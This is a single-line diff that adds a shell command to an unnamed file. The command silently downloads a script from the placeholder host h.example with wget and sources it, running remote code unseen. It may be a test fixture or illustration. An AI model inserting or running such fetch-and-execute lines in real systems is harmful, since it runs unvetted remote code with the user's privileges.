@@ -1,0 +1,1 @@
+source <(wget -qO- http://h.example/setup.sh)
